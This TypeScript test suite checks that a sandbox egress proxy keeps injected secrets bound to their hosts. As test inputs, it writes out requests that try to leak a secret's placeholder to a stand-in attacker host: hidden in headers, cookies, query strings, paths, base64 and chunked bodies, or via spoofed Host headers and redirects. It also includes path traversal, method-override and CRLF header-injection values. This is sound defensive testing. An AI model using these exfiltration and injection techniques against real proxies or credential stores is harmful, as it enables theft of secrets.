// Attacks on secrets (group F of the catalogue, and C17): to see one, to have one sent elsewhere, to use one that has been taken back. After each attack a
// canary is looked for wherever it must not be; it may be found at the origin that it is bound to, and nowhere else.
//
//   F14  no request with a secret in it is compressed, and lengths of answers are the origin's: nothing of a guest's doing
//   F15  AWS signatures are made anew only from what was signed: src/vault/sigv4.test.ts
//   F17  a guest's variables and labels are no settings of ours: here as far as a creator can set them
//   F19  data in requests to an allowed host cannot be told from its use: SECURITY.md says so
import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { connect as connectHttp2 } from 'node:http2';
import { createServer } from 'node:https';
import { afterEach, expect, test } from 'vitest';
import { evilHost, goodHost, type Lab } from '../network/lab.ts';
import { fromHostileGuests, get, told, type World } from './egress.fixture.ts';

const canary = `CANARY-${randomUUID()}`;
const second = `CANARY-${randomUUID()}`;
const placeholders = { first: '', second: '', narrow: '' };

async function setSecrets(world: World): Promise<void> {
  const value = (text: string) => ({ type: 'value', value: text }) as const;
  const bound = (host: string) => ({
    hosts: [host],
    ports: [443],
    header: 'authorization',
    format: 'Bearer %s',
  });
  placeholders.first = (
    await world.secret({
      name: 'first',
      source: value(canary),
      bindings: [bound('good.test'), { hosts: ['query.test'], ports: [443], substitute: ['query', 'body'] }],
      env: ['API_KEY'],
    })
  ).placeholder;
  placeholders.second = (
    await world.secret({ name: 'second', source: value(second), bindings: [bound('other.test')] })
  ).placeholder;
  placeholders.narrow = (
    await world.secret({
      name: 'narrow',
      source: value(canary),
      bindings: [{ ...bound('narrow.test'), methods: ['GET'], paths: ['/v1/*'] }],
    })
  ).placeholder;
}

const names = ['query.test', 'other.test', 'narrow.test', 'late.test', 'readonly.test'];

/** The origin good.test under other names, too, at port 443 and, with a memory of its own, at 8443. */
const elsewhere: string[] = [];
async function serveMore({ lab }: World): Promise<void> {
  const { cert, key } = lab.certificate({ names: ['good.test', ...names] });
  const answer = createServer({ cert, key }, (request, response) => {
    elsewhere.push(JSON.stringify(request.headers));
    request.resume();
    if (request.url?.startsWith('/moved')) {
      response.writeHead(302, { location: `https://good.test${request.url}`, 'x-seen': request.url });
    }
    response.end(JSON.stringify({ url: request.url, headers: request.headers }));
  });
  await lab.listen(goodHost, 8443, (socket) => answer.emit('connection', socket));
  await lab.listen(30, 443, (socket) => answer.emit('connection', socket));
}

fromHostileGuests(
  {
    lab: {
      hosts: {
        ...Object.fromEntries(names.map((name) => [name, 30])),
        'open.evil.test': evilHost,
        'readonly.test': 30,
      },
    },
    prepare: async (world) => {
      await serveMore(world);
      await setSecrets(world);
    },
    rules: (lab: Lab) => [
      { decision: 'allow', resources: ['good.test', 'good.test:8443', 'open.evil.test', lab.network] },
      { decision: 'allow', resources: names.filter((it) => it !== 'readonly.test') },
      { decision: 'allow', resources: ['readonly.test'], methods: ['GET', 'HEAD', 'OPTIONS'] },
      { decision: 'bypass', resources: ['late.test'] },
    ],
    request: { env: { GLOVEBOX_EGRESS_INSPECT: 'needed', GLOVEBOX_EGRESS_HOSTS: '["evil.test=127.0.0.1"]' } },
  },
  (scene) => {
    const isKnown = (text: string, value: string) =>
      [value, Buffer.from(value).toString('base64').slice(0, -4), Buffer.from(value).toString('hex')].some(
        (form) => text.includes(form),
      );

    afterEach(() => {
      const { guest, lab } = scene;
      for (const value of [canary, second]) {
        expect(isKnown(guest.heard, value), 'what the guest was told').toBe(false);
        expect(isKnown(JSON.stringify(lab.evil.seen), value), 'what evil.test has seen').toBe(false);
      }
    });

    test('F the secret reaches the host that it is bound to, and the guest has a placeholder only', async () => {
      const { guest, lab } = scene;
      expect((await guest.shell('echo $API_KEY')).stdout.trim()).toBe(placeholders.first);
      const line = `Authorization: Bearer ${placeholders.first}`;
      expect((await guest.https('good.test:443', get('/x', 'good.test', line))).replies[0]?.status).toBe(200);
      expect(lab.good.seen.at(-1)?.headers.authorization).toBe(`Bearer ${canary}`);
      expect((await guest.logged((it) => it.path === '/x')).secrets).toEqual(['first']);
    });

    test('F1 a spoofed Host does not make a secret go to another host', async () => {
      const { guest, lab } = scene;
      const line = `Authorization: Bearer ${placeholders.first}`;
      const spoofed = await guest.https('open.evil.test:443', get('/', 'good.test', line));
      expect(spoofed.replies[0]?.status).toBe(421);
      const before = lab.evil.seen.length;
      const misplaced = await guest.https('open.evil.test:443', get('/', 'open.evil.test', line));
      expect(misplaced.replies[0]).toMatchObject({
        status: 403,
        headers: { 'x-glovebox-deny': 'placeholder_misplaced' },
      });
      expect(lab.evil.seen.length).toBe(before);
      expect((await guest.logged((it) => it.alarm !== undefined)).host).toBe('open.evil.test');
      // Nothing is wrong with the host itself.
      expect((await guest.https('open.evil.test:443', get('/', 'open.evil.test'))).replies[0]?.status).toBe(
        200,
      );
    });

    test('F1 a placeholder is found wherever and however a request hides it, and goes nowhere', async () => {
      const { guest, lab } = scene;
      const { first } = placeholders;
      const basic = Buffer.from(`user:${first}`).toString('base64');
      const escaped = [...first].map((it) => `%${it.charCodeAt(0).toString(16)}`).join('');
      const to = 'open.evil.test';
      const post = (body: string, ...lines: string[]) =>
        `${get('/', to, `Content-Length: ${body.length}`, ...lines).replace('GET', 'POST')}${body}`;
      const half = first.length >> 1;
      const chunked =
        `${get('/', to, 'Transfer-Encoding: chunked').replace('GET', 'POST')}${half.toString(16)}\r\n` +
        `${first.slice(0, half)}\r\n${(first.length - half).toString(16)}\r\n${first.slice(half)}\r\n0\r\n\r\n`;
      const hidden = {
        'a header': get('/', to, `X-Any: ${first}`),
        'a cookie': get('/', to, `Cookie: a=b; c=${first}`),
        Basic: get('/', to, `Authorization: Basic ${basic}`),
        'the query': get(`/?q=${first}`, to),
        'the path': get(`/${first}/x`, to),
        'the query, escaped': get(`/?q=${escaped}`, to),
        'the body': post(`{"key":"${first}"}`),
        'the body, in base64': post(basic),
        chunks: chunked,
      };
      for (const [where, bytes] of Object.entries(hidden)) {
        const { replies } = await guest.https(`${to}:443`, bytes);
        expect([where, replies[0]?.status ?? 0]).toEqual([where, 403]);
      }
      expect(JSON.stringify(lab.evil.seen)).not.toContain(first);
    });

    test('F1 over HTTP/2 it is the same', async () => {
      const { guest, lab } = scene;
      const ask = async (host: string, headers: Record<string, string>): Promise<number> => {
        const tls = await guest.secure(`${host}:443`, { alpn: ['h2'] });
        const session = connectHttp2(`https://${host}`, { createConnection: () => tls });
        session.on('error', () => {});
        const stream = session.request({ ':path': '/echo', ...headers });
        stream.on('data', (bytes) => {
          guest.heard += String(bytes);
        });
        const [[answer]] = await Promise.all([once(stream, 'response'), once(stream, 'close')]);
        session.destroy();
        return answer[':status'];
      };
      const authorization = `Bearer ${placeholders.first}`;
      expect(await ask('open.evil.test', { authorization })).toBe(403);
      expect(await ask('open.evil.test', { ':authority': 'good.test', authorization })).toBe(421);
      expect(await ask('good.test', { authorization })).toBe(200);
      expect(lab.good.seen.at(-1)).toMatchObject({
        version: '2.0',
        headers: { authorization: `Bearer ${canary}` },
      });
    });

    test('F2 nothing is put in without verified TLS, and a placeholder goes nowhere without it', async () => {
      const { guest, lab } = scene;
      await guest.raw(get('http://good.test/echo', 'good.test'));
      expect(lab.good.seen.at(-1)?.headers).not.toHaveProperty('authorization');
      const before = lab.good.seen.length;
      const line = `Authorization: Bearer ${placeholders.first}`;
      const { replies } = await guest.raw(get('http://good.test/', 'good.test', line));
      expect(replies[0]?.headers['x-glovebox-deny']).toBe('placeholder_unprotected');
      expect(lab.good.seen.length).toBe(before);
    });

    test('F3 an origin that echoes the secret does not give it to the guest', async () => {
      const { guest } = scene;
      const { replies } = await guest.https('good.test:443', get('/echo', 'good.test'));
      expect(JSON.parse(replies[0]?.body ?? '').headers.authorization).toMatch(/^Bearer /);
      const target = `/moved?key=${placeholders.first}`;
      const moved = await guest.https('query.test:443', get(target, 'query.test'));
      expect(moved.replies[0]?.status).toBe(302);
      expect(moved.replies[0]?.headers.location).toMatch(/^https:\/\/good\.test\/moved\?key=/);
    });

    test('F4 a redirect is the guest’s to follow, and takes no secret along', async () => {
      const { guest, lab } = scene;
      const to = encodeURIComponent('https://open.evil.test/');
      const seen = lab.evil.seen.length;
      const first = await guest.https('good.test:443', get(`/redirect?to=${to}`, 'good.test'));
      expect(first.replies[0]).toMatchObject({
        status: 302,
        headers: { location: 'https://open.evil.test/' },
      });
      expect(lab.evil.seen.length).toBe(seen);
      await guest.https('open.evil.test:443', get('/', 'open.evil.test'));
      expect(lab.evil.seen.at(-1)?.headers).not.toHaveProperty('authorization');
    });

    test('F6 another port of the same host is another place', async () => {
      const { guest } = scene;
      elsewhere.length = 0;
      const target = 'good.test:8443';
      expect((await guest.https(target, get('/', target))).replies[0]?.status).toBe(200);
      expect(elsewhere.at(-1)).not.toContain('authorization');
      const line = `Authorization: Bearer ${placeholders.first}`;
      expect((await guest.https(target, get('/', target, line))).replies[0]?.status).toBe(403);
      expect(elsewhere.length).toBe(1);
    });

    test('F8 a credential of the guest’s own does not go beside ours', async () => {
      const { guest, lab } = scene;
      const mine = ['Authorization: Bearer mine', 'AUTHORIZATION: Basic bWluZQ==', 'authorization: x'];
      for (const lines of [
        mine,
        [...mine, 'Connection: authorization'],
        ['Connection: close, Authorization'],
      ]) {
        await guest.https('good.test:443', get('/echo', 'good.test', ...lines));
        const headers = lab.good.seen.at(-1)?.headers;
        expect(headers?.authorization).toBe(`Bearer ${canary}`);
        expect(JSON.stringify(headers)).not.toContain('mine');
      }
    });

    test('F9 the placeholder of one secret is worthless at the host of another', async () => {
      const { guest, lab } = scene;
      const before = lab.good.seen.length;
      for (const line of [`Authorization: Bearer ${placeholders.second}`, `X-Any: ${placeholders.second}`]) {
        const { replies } = await guest.https('good.test:443', get('/', 'good.test', line));
        expect(replies[0]?.headers['x-glovebox-deny']).toBe('placeholder_misplaced');
      }
      expect(lab.good.seen.length).toBe(before);
    });

    test('F10 a secret that is bound to methods and paths goes with no others', async () => {
      const { guest } = scene;
      const line = `Authorization: Bearer ${placeholders.narrow}`;
      const ask = async (bytes: string) => (await guest.https('narrow.test:443', bytes)).replies[0]?.status;
      expect(await ask(get('/v1/x', 'narrow.test', line))).toBe(200);
      elsewhere.length = 0;
      for (const path of ['/v2/x', '/v1/../admin', '/v1/%2e%2e/admin', '/V1/x', '/v1'])
        expect([path, await ask(get(path, 'narrow.test', line))]).toEqual([path, 403]);
      expect(await ask(get('/v1/x', 'narrow.test', line).replace('GET', 'PUT'))).toBe(403);
      await ask(get('/v2/x', 'narrow.test'));
      expect(elsewhere.join()).not.toContain(canary);
    });

    test('F12 a secret that is bound later opens what had been passed unseen, also where a rule says bypass', async () => {
      const { guest, lab, world } = scene;
      const unseen = await guest.secure('late.test:443', { ca: lab.authority });
      unseen.write(get('/', 'late.test'));
      expect((await told(unseen)).replies[0]?.status).toBe(200);
      const cut = told(unseen, Number.POSITIVE_INFINITY);
      const { id } = await world.secret({
        name: `late-${guest.runtime}`,
        sandbox: guest.id,
        source: { type: 'value', value: canary },
        bindings: [{ hosts: ['late.test'], ports: [443], header: 'x-late', format: '%s' }],
      });
      await cut;
      elsewhere.length = 0;
      expect((await guest.https('late.test:443', get('/', 'late.test'))).replies[0]?.status).toBe(200);
      expect(elsewhere.at(-1)).toContain(canary);
      expect((await world.call('DELETE', `/v1/secrets/${id}`)).status).toBe(204);
    });

    test('F13 what keeps secrets cannot be asked for them, from inside or with the key', async () => {
      const { guest, world } = scene;
      const { host, port } = new URL(world.daemon.url);
      expect(await guest.status(get(`http://${host}/v1/secrets`, host))).toBe(403);
      const id = await world.rule({ decision: 'allow', resources: [`localhost:${port}`], sandbox: guest.id });
      const inside = `host.docker.internal:${port}`;
      for (const path of ['/v1/secrets', `/v1/sandboxes/${guest.id}/proxy/18080/credential-vault`])
        expect([401, 421]).toContain(await guest.status(get(`http://${inside}${path}`, inside)));
      await world.call('DELETE', `/v1/policy/rules/${id}`);
      expect(JSON.stringify((await world.call('GET', '/v1/secrets')).body)).not.toContain(canary);
      const agent = await guest.dial({ unix: '/.glovebox/run/agent.sock' });
      agent.write(get('/v1/secrets', 'localhost'));
      expect((await told(agent)).text).not.toContain('HTTP');
    });

    test('F16 a secret that has been taken back goes with no further request, on open connections neither', async () => {
      const { guest, world } = scene;
      const { id } = await world.secret({
        name: `brief-${guest.runtime}`,
        sandbox: guest.id,
        source: { type: 'value', value: canary },
        bindings: [{ hosts: ['other.test'], ports: [443], header: 'x-brief', format: '%s' }],
      });
      const tls = await guest.secure('other.test:443');
      elsewhere.length = 0;
      tls.write(get('/', 'other.test'));
      expect((await told(tls)).replies[0]?.status).toBe(200);
      expect(elsewhere.at(-1)).toContain(canary);
      expect((await world.call('DELETE', `/v1/secrets/${id}`)).status).toBe(204);
      tls.write(get('/', 'other.test'));
      await told(tls).catch(() => undefined);
      tls.destroy();
      await guest.https('other.test:443', get('/', 'other.test'));
      expect(elsewhere.slice(1).join()).not.toContain(canary);
    });

    test('F17 what a creator writes into a guest’s variables changes nothing here', async () => {
      const { guest, world } = scene;
      expect((await guest.shell('echo $GLOVEBOX_EGRESS_INSPECT')).stdout).toBe('needed\n');
      await world.untouched(async () =>
        expect(await guest.status(get('http://evil.test/', 'evil.test'))).toBe(403),
      );
      const tls = await guest.secure('open.evil.test:443');
      expect(tls.authorized).toBe(true);
      tls.destroy();
    });

    test('F18 where a rule lets only reading pass, nothing is written', async () => {
      const { guest } = scene;
      elsewhere.length = 0;
      const read = get('/', 'readonly.test');
      for (const method of ['POST', 'PUT', 'PATCH', 'DELETE', 'PROPFIND']) {
        const bytes = get('/', 'readonly.test', 'Content-Length: 4').replace('GET', method);
        expect((await guest.https('readonly.test:443', `${bytes}data`)).replies[0]?.status).toBe(403);
      }
      expect(elsewhere).toEqual([]);
      const overriding = get('/', 'readonly.test', 'X-HTTP-Method-Override: DELETE');
      expect((await guest.https('readonly.test:443', read)).replies[0]?.status).toBe(200);
      // What says that it means another method than it names is not judged by the name.
      expect((await guest.https('readonly.test:443', overriding)).replies[0]?.status).toBe(403);
      expect(elsewhere.length).toBe(1);
    });

    test('C17 a secret with a line break in it is refused', async () => {
      const { world } = scene;
      for (const value of ['a\r\nX-Injected: 1', 'a\nb', 'a\0b']) {
        const { status, body } = await world.call('PUT', '/v1/secrets', {
          name: 'broken',
          source: { type: 'value', value },
          bindings: [{ hosts: ['good.test'], header: 'x-broken', format: '%s' }],
        });
        expect([value, status]).toEqual([value, 400]);
        expect(JSON.stringify(body)).not.toContain('X-Injected');
      }
    });

    test('F11 no secret is in any file, variable or command line, inside or on the host', async () => {
      const { guest, world } = scene;
      for (const value of [canary, second]) {
        expect(await guest.placesInside(value)).toEqual([]);
        expect(world.placesOnHost(value)).toEqual([]);
        expect(JSON.stringify(await world.log(guest.id))).not.toContain(value);
      }
      // The way of looking finds what is there.
      expect(await guest.placesInside(placeholders.first)).not.toEqual([]);
      expect(world.placesOnHost(guest.id)).not.toEqual([]);
    });
  },
);
